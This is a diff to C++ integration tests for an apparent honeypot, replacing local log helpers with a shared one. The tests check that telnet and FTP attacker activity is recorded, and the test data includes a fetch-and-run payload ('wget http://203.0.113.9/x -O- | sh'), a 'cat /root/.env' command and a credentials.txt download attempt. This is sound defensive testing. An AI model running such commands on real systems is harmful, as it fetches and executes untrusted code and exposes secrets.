@@ -9,6 +9,7 @@
 
 #include "integration/background_process.hpp"
 #include "integration/cli_runner.hpp"
+#include "integration/stored_logs.hpp"
 #include "store/repository.hpp"
 
 namespace decnet::testing {
@@ -16,23 +17,6 @@ namespace {
 
 using ::testing::HasSubstr;
 using ::testing::Not;
-
-std::vector<std::string> logs(store::Repository& repo, const std::string& search) {
-    store::LogFilter filter;
-    filter.search = search;
-    std::vector<std::string> fields;
-    for (const auto& row : repo.logs(filter, 50, 0)) fields.push_back(row.fields);
-    return fields;
-}
-
-// Polls until the ingester has stored at least `n` rows matching `search`.
-void wait_for_logs(store::Repository& repo, const std::string& search, std::int64_t n) {
-    store::LogFilter filter;
-    filter.search = search;
-    const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(10);
-    while (repo.count_logs(filter) < n && std::chrono::steady_clock::now() < deadline)
-        std::this_thread::sleep_for(std::chrono::milliseconds(50));
-}
 
 TEST(CliTelnet, RealClientLoginAndCommandAreStored) {
     const auto dir = make_temp_dir();
@@ -59,19 +43,19 @@ TEST(CliTelnet, RealClientLoginAndCommandAreStored) {
     wait_for_logs(*repo, "service:telnet event:disconnect", 1);
     EXPECT_EQ(up.stop(), 0) << up.err();
 
-    const auto auths = logs(*repo, "service:telnet event:auth");
+    const auto auths = stored_fields(*repo, "service:telnet event:auth", 50);
     ASSERT_EQ(auths.size(), 2u);
     const std::string all_auth = auths[0] + auths[1];
     EXPECT_THAT(all_auth, HasSubstr(R"("password":"wrongpass","status":"failed")"));
     EXPECT_THAT(all_auth, HasSubstr(R"("password":"admin","status":"success")"));
     EXPECT_THAT(all_auth, HasSubstr(R"("src":"127.0.0.1")"));
-    const auto commands = logs(*repo, "service:telnet event:command");
+    const auto commands = stored_fields(*repo, "service:telnet event:command", 50);
     ASSERT_GE(commands.size(), 2u);
     std::string all_commands;
     for (const auto& c : commands) all_commands += c;
     EXPECT_THAT(all_commands, HasSubstr(R"("cmd":"id")"));
     EXPECT_THAT(all_commands, HasSubstr(R"("cmd":"cat /root/.env")"));
-    EXPECT_EQ(logs(*repo, "service:telnet event:connect").size(), 1u);
+    EXPECT_EQ(stored_fields(*repo, "service:telnet event:connect", 50).size(), 1u);
 }
 
 TEST(CliFtp, CurlListsDownloadsAndUploadsOverPassiveMode) {
@@ -106,7 +90,7 @@ TEST(CliFtp, CurlListsDownloadsAndUploadsOverPassiveMode) {
     wait_for_logs(*repo, "service:ftp event:disconnect", 4);
     EXPECT_EQ(up.stop(), 0) << up.err();
 
-    const auto uploads = logs(*repo, "service:ftp event:upload");
+    const auto uploads = stored_fields(*repo, "service:ftp event:upload", 50);
     ASSERT_EQ(uploads.size(), 1u);
     EXPECT_THAT(uploads[0], HasSubstr(R"("path":"payload.sh")"));
     EXPECT_THAT(uploads[0], HasSubstr(R"("sha256":")" + expected_sha + "\""));
@@ -114,7 +98,7 @@ TEST(CliFtp, CurlListsDownloadsAndUploadsOverPassiveMode) {
     EXPECT_EQ(read_file(dir + "/artifacts/" + expected_sha),
               "#!/bin/sh\nwget http://203.0.113.9/x -O- | sh\n");
 
-    const auto downloads = logs(*repo, "service:ftp event:download_attempt");
+    const auto downloads = stored_fields(*repo, "service:ftp event:download_attempt", 50);
     std::string all_downloads;
     for (const auto& d : downloads) all_downloads += d;
     EXPECT_THAT(all_downloads, HasSubstr(R"("path":"credentials.txt")"));
